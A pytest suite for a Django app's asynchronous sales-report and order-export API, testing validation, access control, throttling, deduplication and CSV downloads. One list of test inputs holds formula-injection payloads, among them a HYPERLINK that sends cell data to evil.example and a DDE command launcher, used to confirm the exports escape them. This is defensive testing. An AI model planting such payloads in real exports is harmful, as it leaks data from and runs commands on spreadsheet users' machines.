"""Sales reports (staff) and orders exports (each user their own): requested with 202, made by a
job, polled for status and progress, downloaded as CSV through an authenticated view."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from apps.reports import api, services
from apps.reports.models import Report
from tests.factories import OrderFactory, OrderItemFactory, ProductFactory, TokenFactory, UserFactory

pytestmark = pytest.mark.django_db

REPORTS_URL = "/api/v1/reports/"
EXPORTS_URL = "/api/v1/orders/exports/"
TODAY = timezone.localdate()


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_staff_request_a_sales_report_and_get_202_with_its_id_and_status(
    staff_client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks() as jobs:
        response = staff_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-31"})

    assert response.status_code == 202
    body = response.json()
    assert body["status"] == "pending" and body["progress"] == 0 and body["download_url"] is None
    assert Report.objects.get(pk=body["id"]).kind == Report.Kind.SALES
    assert len(jobs) == 1


def test_an_end_before_the_start_is_a_400_on_end(staff_client):
    response = staff_client.post(REPORTS_URL, {"start": "2025-02-01", "end": "2025-01-31"})

    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid_range"
    assert "end" in response.json()["error"]["fields"]
    assert not Report.objects.exists()


def test_an_end_after_today_is_cut_to_today(staff_client):
    response = staff_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "9999-12-31"})

    assert response.status_code == 202
    assert Report.objects.get(pk=response.json()["id"]).end == timezone.localdate()


def test_a_start_in_the_future_is_a_400_on_start(staff_client):
    tomorrow = timezone.localdate() + timedelta(days=1)
    response = staff_client.post(REPORTS_URL, {"start": tomorrow.isoformat(), "end": "9999-12-31"})

    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid_range"
    assert "start" in response.json()["error"]["fields"]
    assert not Report.objects.exists()


@pytest.mark.parametrize("body", [{}, {"start": "yesterday", "end": "2025-01-01"}, {"start": "2025-01-01"}])
def test_missing_or_malformed_dates_are_a_400(staff_client, body):
    response = staff_client.post(REPORTS_URL, body)

    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid"


def test_an_unknown_report_is_a_404_in_the_error_shape(staff_client):
    for url in (f"{REPORTS_URL}999999/", f"{REPORTS_URL}999999/download/", f"{REPORTS_URL}99999999999999999999999/"):
        response = staff_client.get(url)
        assert response.status_code == 404, url
        assert set(response.json()["error"]) == {"code", "message", "fields"}


def test_sales_reports_are_for_staff_only(api_client, user_client):
    assert api_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-02"}).status_code == 401
    assert user_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-02"}).status_code == 403


def test_a_finished_report_shows_done_and_downloads_the_sales_csv(staff, staff_client):
    desk = ProductFactory(name="Standing desk")
    order = OrderFactory(total=Decimal("998.00"))
    OrderItemFactory(order=order, product=desk, quantity=2, unit_price=Decimal("499.00"))
    report, _ = services.sales_report_request(user=staff, start=TODAY - timedelta(days=1), end=TODAY)
    not_ready = staff_client.get(f"{REPORTS_URL}{report.pk}/download/")

    services.report_generate(report_id=report.pk)  # what the job runs

    assert not_ready.status_code == 409
    status = staff_client.get(f"{REPORTS_URL}{report.pk}/").json()
    assert status["status"] == "done" and status["progress"] == 100 and status["rows"] == 1
    assert status["download_url"].endswith(f"{REPORTS_URL}{report.pk}/download/")
    download = staff_client.get(status["download_url"], HTTP_ACCEPT="text/csv")
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"]
    assert _csv(download) == [
        ["day", "product_id", "product_name", "orders", "units", "revenue"],
        [TODAY.isoformat(), str(desk.pk), "Standing desk", "1", "2", "998.00"],
    ]


def test_a_redelivered_report_job_does_not_make_the_file_again(staff):
    report, _ = services.sales_report_request(user=staff, start=date(2025, 1, 1), end=date(2025, 1, 2))
    services.report_generate(report_id=report.pk)
    first = Report.objects.get(pk=report.pk)

    services.report_generate(report_id=report.pk)

    assert Report.objects.get(pk=report.pk).file == first.file


def test_each_user_exports_and_downloads_their_own_orders_only(user, user_client, django_capture_on_commit_callbacks):
    mine = OrderFactory(user=user)
    OrderItemFactory(order=mine, product__name="Desk lamp", quantity=3, unit_price=Decimal("65.00"))
    OrderItemFactory(order=OrderFactory(), product__name="Someone else's")

    with django_capture_on_commit_callbacks() as jobs:
        response = user_client.post(EXPORTS_URL)
    assert response.status_code == 202 and len(jobs) == 1
    export_id = response.json()["id"]
    services.report_generate(report_id=export_id)

    download = user_client.get(f"{EXPORTS_URL}{export_id}/download/")
    rows = _csv(download)
    assert rows[0][:3] == ["order_id", "created_at", "status"]
    assert [(row[0], row[5], row[6]) for row in rows[1:]] == [(str(mine.pk), "Desk lamp", "3")]

    stranger = _client_for(UserFactory())
    assert stranger.get(f"{EXPORTS_URL}{export_id}/").status_code == 404
    assert stranger.get(f"{EXPORTS_URL}{export_id}/download/").status_code == 404
    assert user_client.get(f"{REPORTS_URL}{export_id}/").status_code == 403  # sales reports are staff-only


def _client_for(user):
    from rest_framework.test import APIClient

    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {TokenFactory(user=user).key}")
    return client


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_product_names_that_start_like_a_formula_are_text_in_the_sales_report(staff, staff_client):
    products = [ProductFactory(name=name) for name in FORMULA_NAMES]
    for product in products:
        OrderItemFactory(order=OrderFactory(), product=product, quantity=2, unit_price=Decimal("5.00"))
    report, _ = services.sales_report_request(user=staff, start=TODAY, end=TODAY)
    services.report_generate(report_id=report.pk)

    download = staff_client.get(f"{REPORTS_URL}{report.pk}/download/")

    rows = _csv(download)[1:]
    assert [row[2] for row in rows] == [f"'{name}" for name in FORMULA_NAMES]
    assert [row[3:] for row in rows] == [["1", "2", "10.00"]] * len(FORMULA_NAMES)


def test_product_names_that_start_like_a_formula_are_text_in_the_orders_export(user, user_client):
    order = OrderFactory(user=user, total=Decimal("60.00"))
    for name in FORMULA_NAMES:
        OrderItemFactory(order=order, product=ProductFactory(name=name), unit_price=Decimal("10.00"))
    export_id = user_client.post(EXPORTS_URL).json()["id"]
    services.report_generate(report_id=export_id)

    rows = _csv(user_client.get(f"{EXPORTS_URL}{export_id}/download/"))[1:]

    assert [row[5] for row in rows] == [f"'{name}" for name in FORMULA_NAMES]
    assert {(row[3], row[6], row[7]) for row in rows} == {("60.00", "1", "10.00")}


@pytest.fixture
def report_requests_two_per_hour(monkeypatch):
    # DRF copies DEFAULT_THROTTLE_RATES onto the class at import, so the class attribute is what counts.
    monkeypatch.setattr(api.ReportRequestThrottle, "THROTTLE_RATES", {"report_requests": "2/hour"})


def test_an_export_requested_again_while_the_first_is_unfinished_returns_that_one_and_queues_nothing(
    user_client, django_capture_on_commit_callbacks
):
    first = user_client.post(EXPORTS_URL)
    with django_capture_on_commit_callbacks() as jobs:
        again = user_client.post(EXPORTS_URL)

    assert first.status_code == 202
    assert again.status_code == 200 and again.json()["id"] == first.json()["id"]
    assert jobs == [] and Report.objects.count() == 1


def test_an_export_requested_after_the_last_one_finished_is_a_new_one(user_client):
    first = user_client.post(EXPORTS_URL).json()["id"]
    services.report_generate(report_id=first)

    again = user_client.post(EXPORTS_URL)

    assert again.status_code == 202 and again.json()["id"] != first


def test_an_unfinished_export_too_old_to_be_running_no_longer_stands_in_for_a_new_one(user, user_client):
    lost = Report.objects.create(kind=Report.Kind.ORDERS, requested_by=user, status=Report.Status.RUNNING)
    Report.objects.filter(pk=lost.pk).update(created_at=timezone.now() - services.UNFINISHED_REPORT_MAX_AGE)

    response = user_client.post(EXPORTS_URL)

    assert response.status_code == 202 and response.json()["id"] != lost.pk


def test_another_users_unfinished_export_does_not_stand_in_for_mine(user_client):
    Report.objects.create(kind=Report.Kind.ORDERS, requested_by=UserFactory())

    assert user_client.post(EXPORTS_URL).status_code == 202


def test_the_same_sales_report_asked_again_while_unfinished_returns_that_one_and_another_range_is_queued(staff_client):
    first = staff_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-31"})
    same = staff_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-31"})
    other = staff_client.post(REPORTS_URL, {"start": "2025-02-01", "end": "2025-02-28"})

    assert same.status_code == 200 and same.json()["id"] == first.json()["id"]
    assert other.status_code == 202 and other.json()["id"] != first.json()["id"]


def test_exports_over_the_rate_are_a_429_with_retry_after_per_user(user, user_client, report_requests_two_per_hour):
    for _ in range(2):
        services.report_generate(report_id=user_client.post(EXPORTS_URL).json()["id"])

    response = user_client.post(EXPORTS_URL)

    assert response.status_code == 429
    assert response.json()["error"]["code"] == "throttled"
    assert 0 < int(response["Retry-After"]) <= 3600
    assert Report.objects.filter(requested_by=user).count() == 2
    assert _client_for(UserFactory()).post(EXPORTS_URL).status_code == 202


def test_sales_reports_over_the_rate_are_a_429_with_retry_after(staff_client, report_requests_two_per_hour):
    for month in (1, 2):
        assert (
            staff_client.post(REPORTS_URL, {"start": f"2025-0{month}-01", "end": f"2025-0{month}-28"}).status_code
            == 202
        )

    response = staff_client.post(REPORTS_URL, {"start": "2025-03-01", "end": "2025-03-31"})

    assert response.status_code == 429
    assert int(response["Retry-After"]) > 0
